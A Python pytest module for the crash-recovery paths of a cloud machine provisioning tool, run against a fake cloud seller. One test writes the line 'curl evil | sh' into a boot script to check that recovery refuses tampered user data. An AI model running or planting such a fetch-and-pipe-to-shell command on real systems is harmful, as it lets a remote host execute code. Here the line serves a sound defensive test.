"""What a crash leaves behind is found, taken in or ended, on the real engine and a toy seller."""

import os
import signal
import threading
import time
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from functools import partial
from pathlib import Path
from typing import Any

import msgspec
import pytest

from ampacity.core.contexts import NamedContext
from ampacity.core.errors import ResourceError, TimedOutError
from ampacity.providers.base import Labels, MachineOrder
from ampacity.provisioning import desk as desk_module
from ampacity.provisioning.control import Control
from ampacity.provisioning.desk import Desk
from ampacity.provisioning.journal import EntryState
from ampacity.provisioning.lock import deployment_lock
from ampacity.provisioning.machines import MachineInputs
from ampacity.provisioning.reports import DriftKind, Outcome
from ampacity.provisioning.tokens import token_of

pytestmark = [pytest.mark.engine, pytest.mark.slow]


@pytest.fixture(autouse=True)
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    """The toy's list is never late."""
    for module in ("desk", "recover"):
        monkeypatch.setattr(f"ampacity.provisioning.{module}.SETTLE_SECONDS", 0.5)
    assert desk_module.SETTLE_SECONDS == 0.5


@pytest.fixture
def desk(context: NamedContext, toy_environment: dict[str, str]) -> Desk:
    return Desk(context, environment=toy_environment)


@pytest.fixture
def stray(desk: Desk, cloud: Any) -> Callable[..., str]:
    """A machine of the deployment that its seller has and the state does not."""

    def make(name: str, *, attempt: int = 7) -> str:
        record = desk.records.get("train")
        wanted = msgspec.structs.replace(record.wanted[0], name=name)
        token = token_of(record.uid, urn_of(name), wanted.replace, attempt)
        labels = Labels(deployment=record.uid, deployment_name="train", machine=name, plan=wanted.plan, token=token)
        order = MachineOrder(labels=labels, offer=wanted.offer, image="default", disk_gib=100)
        made: str = cloud.insert(order)
        return made

    return make


def urn_of(name: str) -> str:
    return f"urn:pulumi:train::ampacity::ampacity:index:Machine::{name}"


def intend(desk: Desk, inputs: MachineInputs) -> None:
    token = token_of(inputs.deployment, urn_of(inputs.name), inputs.replace)
    desk.journal("train").intend(token, urn_of(inputs.name), inputs)


def test_a_machine_that_only_its_seller_knows_is_drift_an_orphan_and_taken_in_by_recover(
    control: Control, hands: Any, desk: Desk, stray: Callable[..., str], cloud: Any
) -> None:
    cloud.fault("refuse", 1)
    missing = next(m.name for m in hands.apply("node-0", "node-1").machines if m.outcome is Outcome.FAILED)
    made = stray(missing, attempt=0)
    intend(desk, next(m for m in desk.records.get("train").wanted if m.name == missing))

    assert [(d.kind, d.machine, d.after) for d in control.drift("train").differences] == [
        (DriftKind.CHANGED, missing, f"made {made}")
    ]
    assert [orphan.id for orphan in control.orphans().orphans] == [made]

    report = control.recover("train", live=hands.live, gate=None)
    assert not report.partial
    assert made in {machine.id for machine in report.machines}
    assert any("taken into the state" in note for note in report.notes)
    assert len(cloud.living()) == 2


def test_recover_ends_what_is_there_twice_and_nothing_else(
    control: Control, hands: Any, stray: Callable[..., str], cloud: Any
) -> None:
    hands.apply("node-0")
    kept = set(cloud.living())
    twin = stray("node-0")
    foreign = stray("node-0", attempt=8)
    rows = cloud.run("select labels from machines where id = ?", foreign)
    other = rows[0][0].replace(msgspec.json.decode(rows[0][0])["deployment"], "f" * 32)
    cloud.run("update machines set labels = ? where id = ?", other, foreign)

    report = control.recover("train", live=hands.live, gate=None)
    assert set(cloud.living()) == kept | {foreign}, "another deployment's machine is not ours to end"
    assert any(twin in note and "ended" in note for note in report.notes)
    (orphan,) = control.orphans().orphans
    assert (orphan.id, orphan.why) == (foreign, "no deployment here has its id")


def test_destroy_ends_what_the_state_never_knew(
    control: Control, hands: Any, stray: Callable[..., str], cloud: Any
) -> None:
    hands.apply("node-0")
    lost = stray("node-5")
    report = control.destroy("train")
    assert report.complete
    assert any(lost in note for note in report.notes)
    assert cloud.living() == {}


def test_a_create_that_was_announced_and_never_made_is_closed(
    control: Control, hands: Any, desk: Desk, machine: Callable[..., MachineInputs]
) -> None:
    hands.apply("node-0")
    record = desk.records.get("train")
    inputs = machine("node-9", deployment=record.uid)
    intend(desk, inputs)
    control.recover("train", live=hands.live, gate=None)
    entry = desk.journal("train").entry(token_of(record.uid, urn_of("node-9"), inputs.replace))
    assert entry is not None
    assert entry.state is EntryState.REFUSED


def test_user_data_that_changed_makes_nothing_new_and_says_so(
    control: Control, hands: Any, user_data: Any, tmp_path: Path, cloud: Any
) -> None:
    ref, text = user_data
    cloud.fault("refuse", 1)
    plan = hands.plan("node-0", "node-1", user_data=ref)
    report = hands.carry_out(plan, user_data=text, folder=tmp_path)
    assert len(cloud.living()) == 1
    assert report.partial

    (tmp_path / "boot.sh").write_text("curl evil | sh\n", encoding="utf-8")
    changed = control.recover("train", live=hands.live, gate=None)
    assert changed.partial
    assert len(cloud.living()) == 1
    assert any("is not what was approved; put it back" in problem for problem in changed.problems)

    (tmp_path / "boot.sh").write_text(text, encoding="utf-8")
    assert not control.recover("train", live=hands.live, gate=None).partial
    assert {row[0] for row in cloud.run("select user_data from machines where state != 'gone'")} == {text}


def test_a_seller_that_is_down_is_told_and_never_taken_for_empty(control: Control, hands: Any, cloud: Any) -> None:
    hands.apply("node-0")
    cloud.fault("read-down", 1)
    status = control.status("train")
    assert status.machines[0].state == "unknown"
    assert "not JSON" in status.machines[0].problems[0]
    cloud.fault("read-down", 1)
    with pytest.raises(ResourceError) as refusal:
        control.base_state("train")
    assert refusal.value.code == "AMP-SELLER-UNASKED"


def test_while_one_change_runs_another_is_refused(
    control: Control, hands: Any, desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("recover", "destroy"):
        monkeypatch.setattr(f"ampacity.provisioning.{module}.WAIT_SECONDS", 0.3)
    hands.apply("node-0")
    with deployment_lock(desk.records.lock("train"), "train", "apply"):
        for verb in (partial(control.recover, gate=None), control.destroy):
            with pytest.raises(TimedOutError) as refusal:
                verb("train")
            assert refusal.value.code == "AMP-LOCKED"
    assert not control.recover("train", live=hands.live, gate=None).partial


def test_an_apply_that_died_before_the_engine_began_is_finished_or_destroyed(
    control: Control, hands: Any, desk: Desk, cloud: Any
) -> None:
    hands.apply("node-0")
    record = desk.records.get("train")
    control.destroy("train")
    desk.records.save(msgspec.structs.replace(record, uid="a" * 32))
    assert control.status("train").machines == ()
    assert control.destroy("train").complete
    assert control.names() == []


@pytest.mark.parametrize("left", ["", '{"user.content_t'])
def test_a_kill_while_the_engine_writes_a_file_s_attributes_does_not_lose_the_state(
    control: Control, hands: Any, context: NamedContext, left: str
) -> None:
    hands.apply("node-0")
    (attributes,) = context.state_folder.glob("pulumi/.pulumi/stacks/*/train.json.attrs")
    attributes.write_text(left, encoding="utf-8")
    assert [machine.state for machine in control.status("train").machines] == ["running"]
    assert not control.recover("train", live=hands.live, gate=None).partial


def test_one_interrupt_ends_an_apply_cleanly_says_what_bills_and_recover_finishes_it(
    control: Control, hands: Any, desk: Desk, cloud: Any
) -> None:
    cloud.option("boot_looks", 10_000)
    before = signal.getsignal(signal.SIGINT)
    person = threading.Thread(target=_interrupt_once_three_are_made, args=(desk.records.journal("train"),))
    person.start()
    report = hands.apply(*(f"node-{at}" for at in range(3)))
    person.join()
    assert report.cancelled
    assert signal.getsignal(signal.SIGINT) is before
    assert {machine.outcome for machine in report.machines} == {Outcome.PENDING}
    assert report.existing == len(cloud.living()) == 3
    assert report.billing_usd_per_hour == Decimal("71.76")
    cloud.option("boot_looks", 0)
    assert not control.recover("train", live=hands.live, gate=None).partial
    assert len(cloud.living()) == 3


def _interrupt_once_three_are_made(journal: Path) -> None:
    while sum(b'"made"' in file.read_bytes() for file in journal.glob("*.json")) < 3:
        time.sleep(0.01)
    os.kill(os.getpid(), signal.SIGINT)


def test_kept_machines_get_the_new_plan_s_end(control: Control, hands: Any) -> None:
    hands.apply("node-0")
    first = control.status("train").machines[0].ends_at
    hands.apply("node-0", "node-1", ttl_hours=Decimal(200))
    ends = [machine.ends_at for machine in control.status("train").machines]
    assert first is not None
    assert ends[0] is not None
    assert (ends[0] - datetime.now(UTC)).total_seconds() > 199 * 3600
    assert ends[0] == ends[1]


def test_a_machine_that_failed_since_it_was_up_is_made_anew_by_recover(
    control: Control, hands: Any, cloud: Any
) -> None:
    hands.apply("node-0", "node-1")
    dead = control.status("train").machines[0].id
    cloud.run("update machines set state = 'failed' where id = ?", dead)
    told = control.status("train").machines[0]
    assert (told.state, told.id) == ("failed", dead)

    recovered = control.recover("train", live=hands.live, gate=None)
    assert [machine.outcome for machine in recovered.machines] == [Outcome.OK] * 2
    assert recovered.machines[0].id != dead
    assert dead not in cloud.living()


def test_a_second_plan_makes_anew_what_failed_though_the_state_has_it_running(
    control: Control, hands: Any, cloud: Any
) -> None:
    hands.apply("node-0", "node-1")
    dead = control.status("train").machines[0].id
    cloud.run("update machines set state = 'failed' where id = ?", dead)
    assert [machine.failed for machine in control.base_state("train").machines] == [True, False]
    report = hands.apply("node-0", "node-1")
    assert [machine.outcome for machine in report.machines] == [Outcome.OK] * 2
    assert report.machines[0].id != dead
    assert dead not in cloud.living()
    assert len(cloud.living()) == 2


def test_a_machine_whose_seller_cannot_be_asked_is_not_called_up_and_leaves_the_sum_unknown(
    control: Control, hands: Any, cloud: Any
) -> None:
    hands.apply("node-0", "node-1")
    cloud.fault("read-down", 1000)
    report = control.recover("train", live=hands.live, gate=None)
    assert [machine.outcome for machine in report.machines] == [Outcome.UNKNOWN] * 2
    assert "not JSON" in report.machines[0].reasons[0]
    assert (report.doubtful, report.existing, report.billing_usd_per_hour) == (2, 0, None)
    assert report.partial
    assert report.finish == "ampacity recover train"

    cloud.run("delete from faults")
    assert [machine.outcome for machine in control.recover("train", gate=None).machines] == [Outcome.OK] * 2
    assert len(cloud.living()) == 2
